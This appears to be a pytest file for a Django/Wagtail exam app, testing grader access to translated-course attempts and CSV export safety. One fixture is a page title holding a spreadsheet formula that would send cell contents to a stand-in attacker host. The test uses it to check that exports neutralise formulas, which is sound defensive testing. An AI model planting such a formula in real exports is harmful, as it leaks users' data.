"""Review r2: an instructor's reach over exam results, and the admin's own exports."""

import csv
import io

import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse

from core.guards import SYSTEM
from courses.exams import selectors, services
from courses.exams.models import CourseGrader
from courses.questions.models import QuestionType
from tests.factories import cms as cms_factories
from tests.factories import courses as course_factories
from tests.factories import exams as factories

pytestmark = pytest.mark.django_db


def _instructor(*, grades=None):
    user = course_factories.instructor()
    user.groups.get().permissions.add(Permission.objects.get(codename="access_admin"))
    if grades is not None:
        CourseGrader.objects.create(course=grades, user=user)
    return user


def test_a_grader_of_a_course_grades_its_translation_s_paper_as_they_see_it(client):
    zh = factories.course()
    en = zh.copy_for_translation(cms_factories.english_locale(), copy_parents=True)
    en.save_revision().publish()
    questions = factories.questions([QuestionType.SINGLE_CHOICE, QuestionType.ESSAY])
    paper = factories.paper(course=en, questions=questions)
    trainee = factories.trainee_for(zh)
    attempt = services.attempt_start(paper=paper, user=trainee)
    services.attempt_submit(actor=SYSTEM, attempt_id=attempt.pk)
    essay = attempt.items.get(version__qtype=QuestionType.ESSAY)
    grader = _instructor(grades=zh)

    client.force_login(grader)
    assert client.get(reverse("exams:staff_attempt", args=[attempt.pk])).status_code == 200  # sees it
    assert essay in selectors.grading_queue(user=grader)
    assert client.get(reverse("exams:staff_grade_item", args=[essay.pk])).status_code == 200


def test_the_admin_s_report_csv_never_starts_a_cell_with_a_formula(client):
    catalogue = cms_factories.catalogue_page(cms_factories.home_page())
    # Published through a revision: the aging-pages report lists pages by their publishing log.
    cms_factories.course_page(catalogue, title='=HYPERLINK("http://evil.example/?"&A1,"x")', revision=True)
    from django.contrib.auth import get_user_model

    admin = get_user_model().objects.create_superuser("r2admin", "r2admin@example.com", "x")
    client.force_login(admin)
    response = client.get(reverse("wagtailadmin_reports:aging_pages") + "?export=csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
    assert "HYPERLINK" in body
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert not [cell for cell in cells if cell.startswith("=")], cells
